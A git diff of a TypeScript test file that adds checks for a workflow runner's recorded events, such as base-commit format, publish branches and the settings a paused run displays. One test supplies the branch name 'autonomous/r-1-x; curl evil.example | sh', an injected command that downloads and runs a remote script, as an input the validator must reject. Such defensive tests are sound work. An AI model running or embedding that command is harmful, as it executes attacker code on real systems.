@@ -5,7 +5,14 @@ import { BUILT_IN_RUN_CONFIG } from '../run-config/run-config.ts';
 import { pausePayload, type RecordedState, startOf } from '../engine/rebuilt/rebuilt-pause.ts';
 import { rebuiltPause } from './rebuilt-pause.ts';
 import type { RecordedChanges } from './recorded-changes.ts';
-import { faultOfBeginning, faultOfBranch, faultOfConfigs, faultOfForks, faultOfSpending } from './recorded-config.ts';
+import {
+  faultOfBase,
+  faultOfBeginning,
+  faultOfBranch,
+  faultOfConfigs,
+  faultOfForks,
+  faultOfSpending,
+} from './recorded-config.ts';
 
 const event = (type: string, payload: object): WorkflowEvent =>
   ({ type, sequence: 3, payload: payload as JsonObject }) as WorkflowEvent;
@@ -156,6 +163,24 @@ const stateOf = (context: JsonObject | null): RecordedState => ({
   open: [],
 });
 
+it('the base of a run is a commit, or nothing without a project', () => {
+  const faultAt = (baseCommit: unknown) => faultOfBase([event('RUN_CONFIGURED', { baseCommit })]);
+  for (const fit of ['', 'a'.repeat(40), '0'.repeat(64)]) expect(faultAt(fit)).toBeNull();
+  for (const wrong of [undefined, 'zz', 'HEAD', 'a'.repeat(41), ' ', ['']])
+    expect(faultAt(wrong)).toBe('line 3 of its events.jsonl names a base that is no commit');
+});
+
+it('a run publishes to a branch of its own', () => {
+  const published = (branch: string) =>
+    faultOfBranch('r-1', [
+      event('RUN_STARTED', { branch: 'autonomous/r-1-x' }),
+      event('CHANGES_PUBLISHED', { branch, commit: 'c' }),
+    ]);
+  expect(published('autonomous/r-1-x-2')).toBeNull();
+  for (const other of ['autonomous/r-1-x; curl evil.example | sh', 'main', 'autonomous/r-2-x'])
+    expect(published(other)).toContain('names another branch');
+});
+
 it('the pause of a rebuilt run shows each trust mode, role and model by itself, and settings as they act', () => {
   const view = aView('r-1');
   const long = Object.fromEntries(
@@ -178,6 +203,19 @@ it('the pause of a rebuilt run shows each trust mode, role and model by itself, 
       { what: 'autoMerge', value: 'on' },
     ]),
   );
+});
+
+it('the pause of a rebuilt run shows settings of its state that differ from those of its log', () => {
+  const view = { ...aView('r-1'), baseCommit: 'a'.repeat(40) };
+  const { git, trustMode } = view.config;
+  const config = { ...view.config, git: { ...git, autoMerge: true }, trustMode: { ...trustMode, planning: 'auto' } };
+  const rows = (context: JsonObject) =>
+    rebuiltPause({ view, project: null, state: stateOf(context), changes: null }).details['applies'] as JsonObject[];
+  const shown = rows({ config });
+  expect(shown).toContainEqual({ what: 'autoMerge, as the state of the run has it', value: 'on' });
+  expect(shown).toContainEqual({ what: 'autoMerge', value: 'off' });
+  const same = rows({ config: view.config });
+  expect(same.filter(({ what }) => String(what).includes('as the state'))).toEqual([]);
 });
 
 it('the pause of a rebuilt run shows the commands and patterns that its machine keeps, which act whatever the files say', () => {
